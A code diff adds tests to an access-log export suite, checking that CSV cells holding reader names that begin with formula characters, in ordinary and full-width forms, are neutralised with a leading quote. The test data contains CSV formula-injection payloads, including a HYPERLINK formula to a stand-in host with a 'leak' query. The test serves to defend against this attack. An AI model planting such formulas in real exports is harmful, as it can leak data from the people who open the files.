@@ -122,6 +122,28 @@ describe('access log exports: CSV for a subject access request and FHIR AuditEve
     expect(bg.break_glass_reason).toBe(`'=Fictional emergency, "quoted"`);
   });
 
+  it.each([
+    ['a leading blank before =', ' =HYPERLINK("http://x.example/?leak","Fictional")'],
+    ['a leading line feed', '\n=1+1 Fictional'],
+    ['a full-width equals sign', '\uFF1DHYPERLINK("http://x.example") Fictional'],
+    ['a full-width at sign after a blank', ' \uFF20SUM(1+1) Fictional'],
+    ['a full-width minus sign', '\uFF0D1+1 Fictional'],
+    ['a full-width plus sign', '\uFF0B1+1 Fictional'],
+  ])('given a reader whose name starts with %s, when IG exports the child as CSV, then the name cell is neutralised with a leading quote (issue 17)', async (_what, name) => {
+    const reader = await hub.token({ agency: 'police', roles: ['POLICE_MASH_OFFICER'], name });
+    const child = await givenPerson(hub, reader);
+    expect((await hub.gql(reader, READ_PERSON, { id: child })).errors).toBeUndefined();
+
+    const r = await hub.gql<{ exportAccessLog: string }>(ig, EXPORT, { filter: { personId: child }, format: 'CSV' });
+
+    expect(r.errors).toBeUndefined();
+    const rows = parseCsv(r.data!.exportAccessLog).filter((row) => row.actor_agency === 'police');
+    expect(rows.length).toBeGreaterThanOrEqual(2);
+    for (const row of rows) expect(row.actor_name).toBe(`'${name}`);
+    // The raw cell: quoted, quote first, quotes doubled.
+    expect(r.data!.exportAccessLog).toContain(`"'${name.replace(/"/g, '""')}"`);
+  });
+
   it('given the FHIR export, then events follow BALP: rest read/search, action, agent with identifier and purpose, patient entity, DICOM 110127 for break-glass', async () => {
     const events = (await exportAs('FHIR_NDJSON')).text
       .trim()
